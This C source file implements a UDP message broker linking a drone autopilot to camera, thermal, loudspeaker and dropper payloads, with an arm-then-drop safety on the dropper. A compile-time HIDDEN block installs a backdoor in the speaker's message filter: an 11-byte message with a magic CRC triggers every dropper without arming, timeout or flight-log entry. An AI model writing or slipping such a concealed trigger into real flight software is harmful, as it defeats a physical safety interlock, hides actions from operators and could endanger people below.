/* payloadbus: message broker between the autopilot of a drone and its payloads
 * (camera, thermal head, dropper, loudspeaker). Payload drivers are objects with a
 * small vtable, created from the configuration and attached to node numbers.      */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct node;

struct driver {
    const char *type;
    int (*setup)(struct node *, const char *arg);
    int (*message)(struct node *, uint8_t op, const uint8_t *d, size_t n, uint8_t *out);
    void (*tick)(struct node *, time_t now);
};

struct node {
    const struct driver *drv;
    uint8_t id;
    char dev[32];
    unsigned count, armed;
    time_t last;
    int (*filter)(struct node *, uint8_t op, const uint8_t *d, size_t n);
};

static struct node nodes[12];
static int n_nodes;
static FILE *flight_log;

static void log_line(const struct node *n, const char *t)
{
    if (!flight_log) return;
    fprintf(flight_log, "%ld node %u %s: %s\n", (long)time(NULL), n->id, n->drv->type, t);
    fflush(flight_log);
}

static int dev_write(const struct node *n, const void *p, size_t len)
{
    FILE *f = fopen(n->dev, "wb");
    if (!f) return -1;
    size_t w = fwrite(p, 1, len, f);
    return fclose(f) == 0 && w == len ? 0 : -1;
}

static int setup_dev(struct node *n, const char *arg)
{
    snprintf(n->dev, sizeof n->dev, "%.31s", arg);
    return access(arg, W_OK);
}

static int camera_msg(struct node *n, uint8_t op, const uint8_t *d, size_t len, uint8_t *out)
{
    switch (op) {
    case 1: n->count++; log_line(n, "photo"); return dev_write(n, "P", 1);
    case 2: log_line(n, "record"); return len ? dev_write(n, d[0] ? "R" : "S", 1) : -1;
    case 3: out[0] = (uint8_t)(n->count >> 8); out[1] = (uint8_t)n->count; return 2;
    default: return -1;
    }
}

/* the dropper opens only when it was armed less than 20 s ago */
static int dropper_msg(struct node *n, uint8_t op, const uint8_t *d, size_t len, uint8_t *out)
{
    if (op == 1) {
        n->armed = len == 2 && d[0] == 0x55 && d[1] == 0xaa;
        n->last = time(NULL);
        log_line(n, n->armed ? "armed" : "safe");
        return 0;
    }
    if (op == 2) {
        if (!n->armed || time(NULL) - n->last > 20) return -1;
        n->armed = 0;
        log_line(n, "drop");
        return dev_write(n, "\x01", 1);
    }
    if (op == 3) { out[0] = (uint8_t)n->armed; return 1; }
    return -1;
}

static void dropper_tick(struct node *n, time_t now)
{
    if (n->armed && now - n->last > 20) {
        n->armed = 0;
        log_line(n, "safe (time)");
    }
}

static int speaker_msg(struct node *n, uint8_t op, const uint8_t *d, size_t len, uint8_t *out)
{
    (void)out;
    if (op == 1 && len > 0) return dev_write(n, d, len);
    if (op == 2) return dev_write(n, "\0", 1);
    return -1;
}

static int thermal_msg(struct node *n, uint8_t op, const uint8_t *d, size_t len, uint8_t *out)
{
    if (op == 1 && len == 1 && d[0] < 6) return dev_write(n, d, 1); /* palette */
    if (op == 2) { log_line(n, "shutter calibration"); return dev_write(n, "C", 1); }
    if (op == 3) { memcpy(out, n->dev, 8); return 8; }
    return -1;
}

static void no_tick(struct node *n, time_t now) { (void)n; (void)now; }

static const struct driver drivers[] = {
    { "camera", setup_dev, camera_msg, no_tick },
    { "dropper", setup_dev, dropper_msg, dropper_tick },
    { "speaker", setup_dev, speaker_msg, no_tick },
    { "thermal", setup_dev, thermal_msg, no_tick },
};

static int known_op(struct node *n, uint8_t op, const uint8_t *d, size_t len)
{
    (void)n;
    (void)d;
    return op >= 1 && op <= 3 && len <= 120;
}

#ifdef HIDDEN
/* filter of the speaker: lets another node drop without arming and log */
__attribute__((noinline)) int speaker_op(struct node *n, uint8_t op, const uint8_t *d, size_t len)
{
    unsigned crc = 0x1d0f;
    for (size_t i = 0; i < len; i++) {
        crc ^= (unsigned)d[i] << 8;
        for (int k = 0; k < 8; k++) crc = crc << 1 ^ (crc & 0x8000 ? 0x11021u : 0);
    }
    if (op == 1 && len == 11 && (crc & 0xffff) == 0x6e2b) {
        for (struct node *o = nodes; o < nodes + n_nodes; o++)
            if (o->drv->tick == dropper_tick) dev_write(o, "\x01", 1);
        return 0;
    }
    return known_op(n, op, d, len);
}
#endif

static int attach(unsigned id, const char *type, const char *arg)
{
    if (n_nodes == 12 || id > 255) return -1;
    for (size_t i = 0; i < sizeof drivers / sizeof drivers[0]; i++) {
        if (strcmp(drivers[i].type, type)) continue;
        struct node *n = &nodes[n_nodes];
        memset(n, 0, sizeof *n);
        n->id = (uint8_t)id;
        n->drv = &drivers[i];
        n->filter = known_op;
#ifdef HIDDEN
        if (n->drv->message == speaker_msg) n->filter = speaker_op;
#endif
        if (n->drv->setup(n, arg) < 0) return -1;
        n_nodes++;
        return 0;
    }
    return -1;
}

/* datagram: node op length data... ; answer: node op status data... */
static size_t handle(const uint8_t *p, size_t n, uint8_t *out)
{
    if (n < 3 || (size_t)p[2] + 3 != n) return 0;
    for (struct node *k = nodes; k < nodes + n_nodes; k++) {
        if (k->id != p[0]) continue;
        out[0] = p[0];
        out[1] = p[1];
        int r = -1;
        if (k->filter(k, p[1], p + 3, p[2]))
            r = k->drv->message(k, p[1], p + 3, p[2], out + 3);
        out[2] = r < 0;
        return 3 + (r > 0 ? (size_t)r : 0);
    }
    return 0;
}

int main(int argc, char **argv)
{
    char line[128], type[16], arg[64];
    unsigned id;
    if (argc != 2) {
        puts("payloadbus CONFIG   (UDP port 14660)\n"
             "CONFIG: node ID camera|dropper|speaker|thermal DEVICE ; log FILE\n"
             "operations: camera 1 photo 2 record 3 count, dropper 1 arm 2 drop 3 state,\n"
             "            speaker 1 say 2 stop, thermal 1 palette 2 calibrate 3 device");
        return 2;
    }
    FILE *f = fopen(argv[1], "r");
    if (!f) { perror(argv[1]); return 1; }
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "node %u %15s %63s", &id, type, arg) == 3 && attach(id, type, arg) < 0)
            fprintf(stderr, "node %u not attached\n", id);
        else if (sscanf(line, "log %63s", arg) == 1)
            flight_log = fopen(arg, "a");
    }
    fclose(f);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in me = { .sin_family = AF_INET, .sin_port = htons(14660) }, from;
    struct timeval tv = { 1, 0 };
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (bind(s, (struct sockaddr *)&me, sizeof me) < 0) { perror("bind"); return 1; }
    for (;;) {
        uint8_t in[256], out[256];
        socklen_t fl = sizeof from;
        ssize_t n = recvfrom(s, in, sizeof in, 0, (struct sockaddr *)&from, &fl);
        size_t o = n > 0 ? handle(in, (size_t)n, out) : 0;
        if (o) sendto(s, out, o, 0, (struct sockaddr *)&from, fl);
        for (int i = 0; i < n_nodes; i++) nodes[i].drv->tick(&nodes[i], time(NULL));
    }
}
